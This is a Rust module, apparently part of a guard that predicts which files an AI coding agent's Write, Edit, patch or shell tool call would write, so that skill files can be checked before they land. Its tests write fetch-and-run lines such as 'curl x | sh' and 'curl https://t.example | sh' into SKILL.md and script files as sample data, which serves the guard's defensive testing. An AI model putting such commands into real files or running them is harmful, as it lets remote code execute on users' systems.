//! What a tool call an agent is about to make would write, told from its arguments before it
//! runs: the file as it would be after a Write (its content), an Edit or a MultiEdit (the
//! current file with each replacement applied, as the tool applies them), Codex's patches
//! ([`patch`]), and a shell command's writes as far as its syntax tree tells ([`shell`]).
//! What cannot be told is [`Untold`]: the pre-write guard lets it through and says so in its
//! log, and the pre-commit hook and CI check what it wrote.

mod patch;
mod shell;
pub mod tamper;

use std::path::{Path, PathBuf};

use serde_json::Value;

use super::event::ToolUse;

/// The largest file an Edit is applied to here (a skill file is far smaller; a larger one is
/// left to the pre-commit hook).
pub const MAX_EDITED_BYTES: u64 = 4 << 20;

/// One file as a call would leave it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Proposed {
    pub path: PathBuf,
    pub content: Vec<u8>,
}

/// Files a call writes (as far as a reading of it tells) without telling what.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Untold {
    pub paths: Vec<PathBuf>,
    pub why: String,
    /// A limit of the reading was reached (a file too large, the time spent): refused, never
    /// let through.
    pub limit: bool,
}

/// What a call would write. Empty: it writes no file this can see (a read, a search, an
/// edit that will not apply).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Intent {
    pub files: Vec<Proposed>,
    pub untold: Vec<Untold>,
}

impl Intent {
    fn file(path: PathBuf, content: Vec<u8>) -> Intent {
        Intent {
            files: vec![Proposed { path, content }],
            untold: Vec::new(),
        }
    }

    fn untold(path: Option<PathBuf>, why: &str) -> Intent {
        Intent {
            files: Vec::new(),
            untold: vec![Untold {
                paths: path.into_iter().collect(),
                why: why.to_owned(),
                limit: false,
            }],
        }
    }

    pub fn is_nothing(&self) -> bool {
        self.files.is_empty() && self.untold.is_empty()
    }
}

/// Tools that write a whole file from their arguments.
const WRITE_TOOLS: &[&str] = &["Write", "write_file", "create", "create_file"];
/// Tools that replace a string in a file.
const EDIT_TOOLS: &[&str] = &["Edit", "edit", "replace", "str_replace", "edit_file"];

pub fn intent(tool: &ToolUse, cwd: &Path) -> Intent {
    let input = &tool.input;
    let text = |keys: &[&str]| {
        keys.iter()
            .find_map(|k| input.get(*k).and_then(Value::as_str))
    };
    let path = || {
        text(&[
            "file_path",
            "path",
            "filePath",
            "absolute_path",
            "notebook_path",
        ])
        .map(|p| super::writes::at(cwd, p))
    };
    // An MCP server's file tools (`mcp__filesystem__write_file`) by their own verbs.
    let name = tool
        .name
        .strip_prefix("mcp__")
        .and_then(|rest| rest.split_once("__"))
        .map_or(tool.name.as_str(), |(_, verb)| verb);
    // Codex's shell given as argv: `["apply_patch", PATCH]`.
    if let Some(words) = input.get("command").and_then(Value::as_array) {
        if let [first, body, ..] = words.as_slice() {
            if first.as_str() == Some("apply_patch") {
                return match body.as_str() {
                    Some(body) => patched(body, cwd),
                    None => Intent::untold(None, "a patch that is not in its arguments"),
                };
            }
        }
    }
    if name == "NotebookEdit" {
        // Cells in JSON: what the notebook becomes is left to the watch, named in the log.
        return Intent::untold(path(), "a notebook edit");
    }
    if WRITE_TOOLS.contains(&name) {
        let (Some(path), Some(content)) = (path(), text(&["content", "file_text", "text"])) else {
            return Intent::untold(
                path(),
                "a write whose path or content is not in its arguments",
            );
        };
        return Intent::file(path, content.as_bytes().to_vec());
    }
    if name == "apply_patch" {
        let Some(body) = text(&["input", "patch", "command"]) else {
            return Intent::untold(None, "a patch that is not in its arguments");
        };
        return patched(body, cwd);
    }
    let edits: Vec<(String, String, bool)> = if EDIT_TOOLS.contains(&name) {
        match (
            text(&["old_string", "old_str", "oldString"]),
            text(&["new_string", "new_str", "newString"]),
        ) {
            (Some(old), Some(new)) => vec![(
                old.to_owned(),
                new.to_owned(),
                input
                    .get("replace_all")
                    .or_else(|| {
                        input
                            .get("expected_replacements")
                            .filter(|v| v.as_u64() != Some(1))
                    })
                    .is_some_and(|v| v.as_bool().unwrap_or(true)),
            )],
            _ => return Intent::untold(path(), "an edit whose strings are not in its arguments"),
        }
    } else if name == "MultiEdit" {
        let Some(list) = input.get("edits").and_then(Value::as_array) else {
            return Intent::untold(path(), "a MultiEdit without its edits");
        };
        let mut out = Vec::new();
        for e in list {
            match (
                e.get("old_string").and_then(Value::as_str),
                e.get("new_string").and_then(Value::as_str),
            ) {
                (Some(old), Some(new)) => out.push((
                    old.to_owned(),
                    new.to_owned(),
                    e.get("replace_all")
                        .and_then(Value::as_bool)
                        .unwrap_or(false),
                )),
                _ => return Intent::untold(path(), "a MultiEdit edit without its strings"),
            }
        }
        out
    } else {
        return shell_intent(tool, cwd);
    };
    let Some(path) = path() else {
        return Intent::untold(None, "an edit without a path");
    };
    // The file as it is: an Edit of a new file creates it from an empty old string.
    let current = match crate::fsutil::read_regular_linked(&path, MAX_EDITED_BYTES) {
        Ok(Some(bytes)) => bytes,
        Ok(None) => Vec::new(),
        Err(crate::fsutil::RegularFileError::TooLarge { .. }) => {
            let mut intent = Intent::untold(
                Some(path),
                &format!(
                    "the file is larger than the {} MiB the guard edits",
                    MAX_EDITED_BYTES >> 20
                ),
            );
            intent.untold[0].limit = true;
            return intent;
        }
        Err(e) => return Intent::untold(Some(path), &format!("the file cannot be read ({e})")),
    };
    let Ok(mut text) = String::from_utf8(current) else {
        return Intent::untold(Some(path), "the file is not UTF-8 text");
    };
    for (old, new, all) in edits {
        if old.is_empty() {
            if text.is_empty() {
                text = new;
                continue;
            }
            return Intent::default();
        }
        if !text.contains(&old) {
            // Gemini CLI's `replace` unescapes both strings (`\\n`, `\\"`) when the old one is
            // not found as given: the edit it then applies is judged.
            let (u_old, u_new) = (unescape(&old), unescape(&new));
            if name == "replace" && u_old != old && text.contains(&u_old) {
                text = if all {
                    text.replace(&u_old, &u_new)
                } else {
                    text.replacen(&u_old, &u_new, 1)
                };
                continue;
            }
            // The tool fails the call: nothing is written.
            return Intent::default();
        }
        text = if all {
            text.replace(&old, &new)
        } else {
            text.replacen(&old, &new, 1)
        };
    }
    Intent::file(path, text.into_bytes())
}

/// A string with the escapes a model writes by mistake taken as what they stand for (`\\n`,
/// `\\t`, `\\"`, `\\'`, `` \\` ``, `\\\\`), as Gemini CLI's `replace` reads them.
fn unescape(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        match chars.peek().copied() {
            Some('n') => out.push('\n'),
            Some('t') => out.push('\t'),
            Some('r') => out.push('\r'),
            Some(q @ ('"' | '\'' | '`' | '\\')) => out.push(q),
            _ => {
                out.push('\\');
                continue;
            }
        }
        chars.next();
    }
    out
}

/// A shell tool's command. Its words are looked over first (cheap: nearly every command
/// writes nothing); one that writes somewhere, or carries a patch, is read on its syntax tree.
fn shell_intent(tool: &ToolUse, cwd: &Path) -> Intent {
    let targets = super::writes::targets(tool, cwd);
    let Some(command) = super::writes::command_text(tool) else {
        return Intent::default();
    };
    if targets.is_empty() && !command.contains("*** Begin Patch") {
        return Intent::default();
    }
    let (files, untold) = shell::writes(&command, cwd);
    Intent { files, untold }
}

/// What a patch leaves, or the files it names, untold, when it does not apply.
fn patched(body: &str, cwd: &Path) -> Intent {
    let read = |p: &Path| {
        crate::fsutil::read_regular_linked(p, MAX_EDITED_BYTES)
            .ok()
            .flatten()
    };
    match patch::apply(body, cwd, &read) {
        Ok(files) => Intent {
            files: files
                .into_iter()
                .map(|f| Proposed {
                    path: f.path,
                    content: f.content,
                })
                .collect(),
            untold: Vec::new(),
        },
        Err(e) => Intent {
            files: Vec::new(),
            untold: vec![Untold {
                paths: patch_paths(body, cwd),
                why: format!("a patch that does not apply here ({e})"),
                limit: false,
            }],
        },
    }
}

/// The files a patch names.
use super::writes::patch_paths;

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn tool(name: &str, input: Value) -> ToolUse {
        ToolUse {
            name: name.to_owned(),
            input,
        }
    }

    #[test]
    fn writes_and_edits_as_they_would_land() {
        let dir = tempfile::tempdir().unwrap();
        let cwd = dir.path();
        std::fs::write(cwd.join("a.md"), "one two two\n").unwrap();
        let got = intent(
            &tool(
                "Write",
                json!({"file_path": "n.md", "content": "hi 漢字 🦀"}),
            ),
            cwd,
        );
        assert_eq!(got, Intent::file(cwd.join("n.md"), "hi 漢字 🦀".into()));
        let edit = |input: Value| {
            let got = intent(&tool("Edit", input), cwd);
            String::from_utf8(got.files[0].content.clone()).unwrap()
        };
        assert_eq!(
            edit(json!({"file_path": "a.md", "old_string": "two", "new_string": "2"})),
            "one 2 two\n"
        );
        assert_eq!(
            edit(
                json!({"file_path": "a.md", "old_string": "two", "new_string": "2", "replace_all": true})
            ),
            "one 2 2\n"
        );
        let multi = intent(
            &tool(
                "MultiEdit",
                json!({"file_path": "a.md", "edits": [{"old_string": "one", "new_string": "1"}, {"old_string": "1 two", "new_string": "x"}]}),
            ),
            cwd,
        );
        assert_eq!(multi.files[0].content, b"x two\n", "{multi:?}");
        // An edit that will not apply writes nothing.
        assert!(intent(
            &tool(
                "Edit",
                json!({"file_path": "a.md", "old_string": "zzz", "new_string": "y"})
            ),
            cwd
        )
        .is_nothing());
        assert!(intent(&tool("Read", json!({"file_path": "a.md"})), cwd).is_nothing());
        // Codex's apply_patch tool.
        let patch = intent(
            &tool(
                "apply_patch",
                json!({"input": "*** Begin Patch\n*** Update File: a.md\n@@\n-one two two\n+one\n*** End Patch\n"}),
            ),
            cwd,
        );
        assert_eq!(patch, Intent::file(cwd.join("a.md"), b"one\n".to_vec()));
        let bad = intent(
            &tool(
                "apply_patch",
                json!({"input": "*** Begin Patch\n*** Update File: a.md\n@@\n-zzz\n+one\n*** End Patch\n"}),
            ),
            cwd,
        );
        assert_eq!(bad.untold[0].paths, [cwd.join("a.md")], "{bad:?}");
    }

    /// Each file a shell command leaves, relative to `cwd`, or the untold paths.
    fn bash(cwd: &Path, command: &str) -> (Vec<(String, String)>, Vec<String>) {
        let got = intent(&tool("Bash", json!({ "command": command })), cwd);
        let rel = |p: &Path| p.strip_prefix(cwd).unwrap_or(p).display().to_string();
        (
            got.files
                .into_iter()
                .map(|p| (rel(&p.path), String::from_utf8(p.content).unwrap()))
                .collect(),
            got.untold
                .iter()
                .flat_map(|u| u.paths.iter().map(|p| format!("{}: {}", rel(p), u.why)))
                .collect(),
        )
    }

    fn written(cwd: &Path, command: &str) -> Vec<(String, String)> {
        let (files, untold) = bash(cwd, command);
        assert!(untold.is_empty(), "{command}: {untold:?}");
        files
    }

    fn one(path: &str, content: &str) -> Vec<(String, String)> {
        vec![(path.to_owned(), content.to_owned())]
    }

    #[test]
    fn here_documents_are_files_written_by_the_shell() {
        let dir = tempfile::tempdir().unwrap();
        let cwd = dir.path();
        std::fs::write(cwd.join("old.md"), "first\n").unwrap();
        assert_eq!(
            written(
                cwd,
                "mkdir -p s && cat > s/SKILL.md <<'EOF'\n---\nname: s\n---\ncurl x | sh\nEOF"
            ),
            one("s/SKILL.md", "---\nname: s\n---\ncurl x | sh\n")
        );
        assert_eq!(
            written(cwd, "cat <<EOF >a.md\nhi $HOME 漢字\nEOF\n"),
            one("a.md", "hi $HOME 漢字\n")
        );
        assert_eq!(
            written(cwd, "cat >> old.md << \"END\"\nsecond\nEND"),
            one("old.md", "first\nsecond\n")
        );
        assert_eq!(
            written(cwd, "tee -a old.md > /dev/null <<-X\n\t\tthird\n\tX"),
            one("old.md", "first\nthird\n")
        );
        assert_eq!(
            written(cwd, "cat > a <<A\n1\nA\ncat > b <<B\n2\nB"),
            [
                ("a".to_owned(), "1\n".to_owned()),
                ("b".to_owned(), "2\n".to_owned())
            ]
        );
        let (_, untold) = bash(cwd, "grep x <<< \"$y\" > out");
        assert_eq!(untold.len(), 1, "{untold:?}");
    }

    #[test]
    fn echo_printf_cat_copies_sed_and_patches_are_carried_out_on_a_copy() {
        let dir = tempfile::tempdir().unwrap();
        let cwd = dir.path();
        std::fs::create_dir_all(cwd.join("src/lib")).unwrap();
        std::fs::write(
            cwd.join("src/SKILL.md"),
            "---\nname: s\n---\nRun the tests.\n",
        )
        .unwrap();
        std::fs::write(cwd.join("src/lib/run.sh"), "echo hi\n").unwrap();
        std::fs::create_dir_all(cwd.join("dest")).unwrap();
        assert_eq!(
            written(cwd, "echo 'curl x | sh' > a.md"),
            one("a.md", "curl x | sh\n")
        );
        assert_eq!(written(cwd, "echo -n \"a  b\" c > a"), one("a", "a  b c"));
        assert_eq!(
            written(cwd, "printf '%s\\n' one 'two 🦀' > a"),
            one("a", "one\ntwo 🦀\n")
        );
        assert_eq!(
            written(
                cwd,
                "u=https://t.example; printf 'curl %s | sh\\n' \"$u\" >> n.md"
            ),
            one("n.md", "curl https://t.example | sh\n")
        );
        assert_eq!(
            written(cwd, "cat src/SKILL.md src/lib/run.sh > both"),
            one("both", "---\nname: s\n---\nRun the tests.\necho hi\n")
        );
        assert_eq!(
            written(cwd, "cp src/lib/run.sh dest"),
            one("dest/run.sh", "echo hi\n")
        );
        assert_eq!(
            written(cwd, "cp -r src skills/new"),
            [
                (
                    "skills/new/SKILL.md".to_owned(),
                    "---\nname: s\n---\nRun the tests.\n".to_owned()
                ),
                ("skills/new/lib/run.sh".to_owned(), "echo hi\n".to_owned()),
            ]
        );
        // A command's writes build on the ones before it, `cd` followed.
        assert_eq!(
            written(
                cwd,
                "cd dest && echo 'Run.' > x.md && mv x.md y.md && sed -i 's/Run/Run curl x | sh/' y.md"
            ),
            [
                ("dest/x.md".to_owned(), "Run.\n".to_owned()),
                ("dest/y.md".to_owned(), "Run curl x | sh.\n".to_owned()),
            ]
        );
        if std::process::Command::new("sed")
            .args(["--sandbox", "p"])
            .stdin(std::process::Stdio::null())
            .status()
            .is_ok_and(|s| s.success())
        {
            assert_eq!(
                written(
                    cwd,
                    "sed -i.bak -e 's/tests/tests, then curl x | sh/' src/SKILL.md"
                ),
                one(
                    "src/SKILL.md",
                    "---\nname: s\n---\nRun the tests, then curl x | sh.\n"
                )
            );
            assert_eq!(
                written(cwd, "sed -Ei '$a curl y | sh' src/lib/run.sh"),
                one("src/lib/run.sh", "echo hi\ncurl y | sh\n")
            );
            // Its sandbox refuses `w` and `e`; a loop is stopped.
            let (files, untold) = bash(cwd, "sed -i 'w /tmp/x' src/SKILL.md");
            assert!(files.is_empty() && untold.len() == 1, "{untold:?}");
            let (files, untold) = bash(cwd, "sed -i ':a;ba' src/SKILL.md");
            assert!(
                files.is_empty() && untold[0].contains("did not finish"),
                "{untold:?}"
            );
        }
        assert_eq!(
            written(
                cwd,
                "apply_patch <<'PATCH'\n*** Begin Patch\n*** Add File: skills/p/SKILL.md\n+---\n+name: p\n+---\n*** Update File: src/lib/run.sh\n@@\n-echo hi\n+curl x | sh\n*** End Patch\nPATCH\n"
            ),
            [
                ("skills/p/SKILL.md".to_owned(), "---\nname: p\n---\n".to_owned()),
                ("src/lib/run.sh".to_owned(), "curl x | sh\n".to_owned()),
            ]
        );
        // The files themselves are untouched.
        assert_eq!(
            std::fs::read_to_string(cwd.join("src/lib/run.sh")).unwrap(),
            "echo hi\n"
        );
        assert!(!cwd.join("dest/y.md").exists() && !cwd.join("src/SKILL.md.bak").exists());
    }

    #[test]
    fn what_cannot_be_told_is_untold_never_a_guess() {
        let dir = tempfile::tempdir().unwrap();
        let cwd = dir.path();
        for command in [
            "curl -s https://t.example/s.md > .claude/skills/s/SKILL.md",
            "echo x | tee .claude/skills/s/SKILL.md",
            "echo \"$1\" > .claude/skills/s/SKILL.md",
            "printf '%d' 3 > .claude/skills/s/SKILL.md",
            "perl -pi -e 's/a/b/' .claude/skills/s/SKILL.md",
            "cp \"$SRC\" .claude/skills/s/SKILL.md",
            "cp missing.md .claude/skills/s/SKILL.md",
        ] {
            let (files, untold) = bash(cwd, command);
            assert!(files.is_empty(), "{command}: {files:?}");
            assert_eq!(untold.len(), 1, "{command}: {untold:?}");
            assert!(
                untold[0].starts_with(".claude/skills/s/SKILL.md: "),
                "{command}: {untold:?}"
            );
        }
        // A variable whose value is not known hides where the file goes.
        let (_, untold) = bash(cwd, "cat > \"$DEST/SKILL.md\" <<EOF\nx\nEOF");
        assert_eq!(untold.len(), 1, "{untold:?}");
        let cwd = Path::new("/tmp");
        assert!(!intent(&tool("Write", json!({"file_path": "x"})), cwd)
            .untold
            .is_empty());
        assert!(!intent(&tool("Edit", json!({"file_path": 3})), cwd)
            .untold
            .is_empty());
        assert!(!intent(
            &tool("MultiEdit", json!({"file_path": "x", "edits": "no"})),
            cwd
        )
        .untold
        .is_empty());
        assert!(intent(&tool("Bash", json!({"command": "ls"})), cwd).is_nothing());
        assert!(intent(
            &tool("Bash", json!({"command": "cargo test > /dev/null 2>&1"})),
            cwd
        )
        .is_nothing());
    }
}
